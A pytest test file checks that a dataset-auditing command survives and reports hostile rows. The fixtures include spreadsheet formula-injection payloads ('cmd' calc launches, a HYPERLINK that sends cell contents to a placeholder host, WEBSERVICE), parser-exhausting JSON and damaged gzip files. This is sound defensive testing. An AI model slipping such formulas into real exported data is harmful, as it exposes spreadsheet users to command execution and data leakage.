"""Hostile data through `temperance audit data`: it never breaks, loses no row, and says something about every odd one."""

import gzip
import json
from pathlib import Path
from typing import Any

import pytest

from tests.test_cli import temperance

GOOD = [
    ("What is a fox?", "A small wild animal of the dog family."),
    ("Why is the sky blue?", "Air scatters blue light more than red light."),
    ("Name a river in Egypt.", "The Nile flows through Egypt."),
]

WORDS = [
    f"{first}{second}"
    for first in ("lava", "moss", "tarn", "peat", "silt", "dune", "reef")
    for second in ("ford", "holm", "wick", "mere", "gate", "dale")
]


def row(answer: str, *, quoted: bool = True, asked: str = "NUMBER?") -> bytes:
    """Return a row's JSON with an answer that is JSON already, or its inside. NUMBER is for a question that no other row asks."""
    return f'{{"instruction": "{asked}", "input": "", "output": {chr(34) * quoted}{answer}{chr(34) * quoted}}}'.encode()


READ = {
    "ten megabytes": row("a" * 10_000_000),
    "many words": row("A lake is water. " * 30_000),
    "control characters": row(r"A lake\u0007 is\u001b[31m water."),
    "a direction override": row("A lake \u202e is water."),
    "a replacement character": row("A lake \ufffd is water."),
    "a hyperlink": row(r"=HYPERLINK(\"http://lakes.example/?\"&A1, \"A lake\")"),
    "a command": row("=cmd|' /C calc'!A0"),
    "a command after a sign": row("+cmd|' /C calc'!A0"),
    "a command in the question": row("Water.", asked="-cmd|' /C calc'!A0 NUMBER"),
    "a web service": row(r" =WEBSERVICE(\"http://lakes.example\")"),
    "a function of old": row("@SUM(1+1)*cmd|' /C calc'!A0"),
}
ASIDE = {
    "a null character": row(r"A lake\u0000 is water."),
    "a lone surrogate": row(r"A lake \ud800 is water."),
    "not UTF-8": row("A lake is water.").replace(b"lake is", b"l\xe4ke is"),
    "an encoded surrogate": row("A lake is water.").replace(b"lake is", b"l\xed\xa0\x80ke is"),
    "deep": row("[" * 50_000 + "]" * 50_000, quoted=False),
    "deep and open": row("[" * 2_000 + "]" * 1_999 + "1" + "]", quoted=False),
    "a huge number": row("1" + "0" * 9_000, quoted=False),
    "a huge power": row("1e999999", quoted=False),
    "not a number": row("NaN", quoted=False),
    "infinite": row("-Infinity", quoted=False),
    "null": row("null", quoted=False),
    "an answer twice": row(r'Water.", "output": "Oil.'),
    "an answer twice, spelt otherwise": row(r'Water.", "outpu\u0074": "Oil.'),
    "one of many fields twice": b"{" + b",".join(b'"%d": 0' % (number % 49_999) for number in range(50_000)) + b"}",
    "a role twice": b'{"messages": [{"role": "user", "role": "system", "content": "NUMBER?"}, {"role": "assistant", "content": "Water."}]}',
    "nothing": b"{}",
    "a list": b"[1, 2]",
    "a text": b'"A lake is water."',
}
CELLS = {
    "a hyperlink": '"NUMBER?","=HYPERLINK(""http://lakes.example"",""A lake"")"',
    "a command": "\"=cmd|' /C calc'!A0 NUMBER\",Water.",
    "control characters": "NUMBER?,A lake\x07 is water.",
    "not UTF-8": "NUMBER?,A l\udce4ke is water.",
    "too many cells": "NUMBER?,Water.,Oil.",
    "too few cells": "NUMBER?",
    "text after a quote": 'NUMBER?,"Water" and more',
    "a long cell": f"NUMBER?,{'a' * 200_000}",
}
DAMAGED = {
    "gzip cut short": lambda raw: gzip.compress(raw)[:-12],
    "gzip cut in its head": lambda raw: gzip.compress(raw)[:6],
    "gzip with a wrong sum": lambda raw: gzip.compress(raw)[:-8] + b"12345678",
    "null characters for a file": lambda raw: bytes(4_000),
    "a null character in a table": lambda raw: b"instruction,output\nNUMBER?,A l\0ke.\n",
    "brackets only": lambda raw: b"[" * 500_000,
    "nothing": lambda raw: b"",
    "a quote that never closes": lambda raw: b'instruction,output\n"' + b"a" * 1_000_000,
}


def audited(path: Path, *, written: int, odd: set[int], monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """Audit a file; return its report, having seen that no row is lost and that each odd one is spoken of and no other."""
    report, rows, sarif, html = (path.with_name(name) for name in ("report.json", "rows.jsonl", "findings.sarif", "report.html"))
    words = ["--json", str(report), "--rows", str(rows), "--sarif", str(sarif), "--html", str(html)]
    assert temperance("audit", "data", str(path), *words, monkeypatch=monkeypatch) in (0, 1)
    lines = [json.loads(line) for line in rows.read_text(encoding="utf-8").splitlines()]
    assert [line["row"] for line in lines] == list(range(written))
    assert {line["row"] for line in lines if "data/malformed-rows" in line["checks"]} == odd
    json.loads(sarif.read_text(encoding="utf-8"))
    said: dict[str, Any] = json.loads(report.read_text(encoding="utf-8"))
    assert not [outcome for outcome in said["outcomes"] if outcome["outcome"] == "broke"]
    return said


def unbroken(told: pytest.CaptureFixture[str]) -> str:
    """Return what stderr said, which is no traceback."""
    said = told.readouterr().err
    assert "Traceback" not in said
    assert "defect in temperance" not in said
    return said


def numbered(records: list[bytes]) -> list[bytes]:
    """Return the records with questions that differ, so that no check of repeats speaks of them."""
    return [record.replace(b"NUMBER", WORDS[place].encode()) for place, record in enumerate(records)]


def together(records: list[bytes], *, array: bool) -> bytes:
    return b"[" + b",\n".join(records) + b"]" if array else b"\n".join(records) + b"\n"


@pytest.mark.parametrize("array", [False, True], ids=["lines", "array"])
def test_every_hostile_row_is_reported_or_set_aside(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], array: bool
) -> None:
    good = [row(answer, asked=asked) for asked, answer in GOOD]
    records = numbered([*good, *READ.values(), *ASIDE.values()])
    path = tmp_path / "rows.json"
    path.write_bytes(together(records, array=array))
    report = audited(path, written=len(records), odd=set(range(len(good), len(records))), monkeypatch=monkeypatch)
    assert f"{len(good) + len(READ)} rows, {len(ASIDE)} set aside" in unbroken(capsys)
    malformed = next(outcome for outcome in report["outcomes"] if outcome["check"] == "data/malformed-rows")
    unread = [finding for finding in malformed["findings"] if finding["title"].startswith("unreadable: ")]
    assert sum(finding["evidence"]["value"] for finding in unread) == len(ASIDE)


def test_every_hostile_cell_is_reported_or_set_aside(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = ["instruction,output", *(f'"{asked}","{answer}"' for asked, answer in GOOD), *CELLS.values()]
    records = numbered([line.encode("utf-8", "surrogateescape") for line in lines])
    path = tmp_path / "rows.csv"
    path.write_bytes(b"\r\n".join(records))
    audited(path, written=len(lines) - 1, odd=set(range(len(GOOD), len(lines) - 1)), monkeypatch=monkeypatch)
    assert "4 set aside" in unbroken(capsys)


@pytest.mark.parametrize("name", DAMAGED)
def test_a_damaged_file_is_refused_in_words(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    path = tmp_path / "rows.json.gz"
    path.write_bytes(DAMAGED[name](together([row(answer, asked=asked) for asked, answer in GOOD], array=False)))
    assert temperance("audit", "data", str(path), monkeypatch=monkeypatch) == 2
    assert unbroken(capsys).startswith("error: ")
